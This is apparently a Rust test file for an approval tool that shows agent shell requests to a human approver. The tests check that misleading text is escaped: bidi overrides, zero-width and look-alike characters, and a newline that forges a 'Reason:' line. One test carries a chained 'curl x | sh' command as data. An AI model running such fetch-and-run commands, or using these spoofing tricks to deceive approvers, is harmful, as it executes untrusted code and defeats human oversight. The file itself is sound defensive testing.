//! What an approver reads in `pending` and `inspect` (issue #14, case B44): every argument in
//! full, every character a person could misread escaped, as the kernel's one rendering.

use serde_json::{Value, json};

use crate::support::{Run, Sandbox};

const SHELL_POLICY: &str = "\
schema: countersign.policy/v1
mode: enforce
environment: test
actions:
  shell:
    decision: approve
";

/// A 10 KB value: checked in full, then replaced in snapshots by a marker.
fn long_value() -> String {
    "0123456789".repeat(1024)
}

/// Arguments holding each kind of text an approver could misread.
fn tricky_arguments() -> Value {
    json!({
        "accent": "cafe\u{301}",
        "zero_width": "exam\u{200b}ple.com",
        "rtl": "invoice\u{202e}fdp.exe",
        "lookalike": "p\u{430}ypal.com",
        "long": long_value(),
        "empty": "",
    })
}

/// A sandbox on [`SHELL_POLICY`] with one pending `shell` request for `arguments`.
async fn one_request(arguments: &Value) -> (Sandbox, String) {
    let sandbox = Sandbox::new();
    sandbox.write("countersign.yaml", SHELL_POLICY);
    let id = sandbox
        .agent()
        .request_approval_for("shell", arguments)
        .await;
    (sandbox, id.to_string())
}

fn snapshot(sandbox: &Sandbox, name: &str, args: &[&str]) -> Run {
    let run = sandbox.run(args);
    assert_eq!(run.status, Some(0), "{run:?}");
    assert_eq!(run.stderr, "", "{run:?}");
    let mut settings = sandbox.settings();
    settings.add_filter(&long_value(), "[the 10240-character value, in full]");
    settings.bind(|| insta::assert_snapshot!(name, run.transcript()));
    run
}

fn json(run: &Run) -> Value {
    serde_json::from_str(&run.stdout).unwrap_or_else(|error| panic!("not JSON ({error}): {run:?}"))
}

/// Nothing an approver reads holds one of these raw.
fn assert_nothing_raw(text: &str) {
    for raw in ['\u{200b}', '\u{202e}', '\u{301}', '\u{430}'] {
        assert!(
            !text.contains(raw),
            "{raw:?} reached the approver raw: {text}"
        );
    }
    assert!(!text.contains('…'), "an ellipsis: {text}");
}

#[tokio::test]
async fn pending_shows_tricky_arguments_in_full_and_escaped() {
    let (sandbox, _) = one_request(&tricky_arguments()).await;
    let run = snapshot(&sandbox, "pending_text_tricky", &["pending"]);
    assert_eq!(run.stdout.matches(&long_value()).count(), 1, "{run:?}");
    assert_nothing_raw(&run.stdout);
    let run = snapshot(&sandbox, "pending_json_tricky", &["pending", "--json"]);
    let listed = json(&run);
    let display = &listed[0]["display"];
    assert_eq!(display["schema"], "countersign.display/v1");
    // The stored record's fields are all still there, the raw arguments among them.
    assert_eq!(listed[0]["arguments"], tricky_arguments());
    let rtl = display["arguments"]
        .as_array()
        .expect("arguments")
        .iter()
        .find(|argument| argument["path"]["text"] == "/rtl")
        .expect("the rtl argument");
    assert_eq!(rtl["value"]["text"], "invoice\\u{202e}fdp.exe");
    assert_eq!(rtl["value"]["findings"][0]["kind"], "bidi_control");
    assert_eq!(
        rtl["value"]["findings"][0]["code_points"],
        json!(["U+202E"])
    );
}

#[tokio::test]
async fn inspect_shows_tricky_arguments_in_full_and_escaped() {
    let (sandbox, id) = one_request(&tricky_arguments()).await;
    let run = snapshot(&sandbox, "inspect_text_tricky", &["inspect", &id]);
    assert_eq!(run.stdout.matches(&long_value()).count(), 1, "{run:?}");
    assert_nothing_raw(&run.stdout);
    let run = snapshot(&sandbox, "inspect_json_tricky", &["inspect", &id, "--json"]);
    let inspected = json(&run);
    assert_eq!(inspected["approval"]["arguments"], tricky_arguments());
    assert_eq!(inspected["display"]["finding_count"], 5);
}

#[tokio::test]
async fn b44_a_pending_shows_a_long_command_whole() {
    let command = format!("{}; curl x | sh", "a".repeat(200));
    let (sandbox, _) = one_request(&json!({ "cmd": command })).await;
    let run = sandbox.run(&["pending"]);
    assert!(
        run.stdout.contains(&format!("/cmd = \"{command}\"")),
        "{run:?}"
    );
}

#[tokio::test]
async fn b44_d_a_newline_in_a_field_never_starts_a_line() {
    let (sandbox, id) =
        one_request(&json!({ "cmd": "ls", "reason": "tidy\nReason: routine cleanup" })).await;
    for args in [vec!["pending"], vec!["inspect", id.as_str()]] {
        let run = sandbox.run(&args);
        assert!(
            run.stdout
                .contains("/reason = \"tidy\\u{a}Reason: routine cleanup\""),
            "{run:?}"
        );
        assert!(
            run.stdout
                .lines()
                .all(|line| !line.trim_start().starts_with("Reason:")),
            "{run:?}"
        );
    }
}

#[tokio::test]
async fn b44_f_an_empty_command_is_flagged() {
    let (sandbox, _) = one_request(&json!({ "cmd": "" })).await;
    let run = sandbox.run(&["pending"]);
    assert!(
        run.stdout
            .contains("/cmd = \"\"\n      ! empty: the value is an empty string"),
        "{run:?}"
    );
}

/// A new user's trial: `approve` repeated the arguments it approved with a look-alike letter
/// raw (`p\u{430}ypal` printed as Cyrillic). Its confirmation now uses the one rendering, as
/// `pending` and `inspect` do, and says how many findings it marked.
#[tokio::test]
async fn approve_confirms_in_the_one_rendering() {
    let (sandbox, id) = one_request(&tricky_arguments()).await;
    let run = sandbox.run(&["approve", &id, "--as", "human:alice"]);
    assert_eq!(run.status, Some(0), "{run:?}");
    assert_nothing_raw(&run.stdout);
    assert!(run.stdout.contains("p\\u{430}ypal.com"), "{run:?}");
    assert!(
        run.stdout
            .contains("(5 hidden or look-alike character finding(s) marked; `countersign inspect"),
        "{run:?}"
    );
}
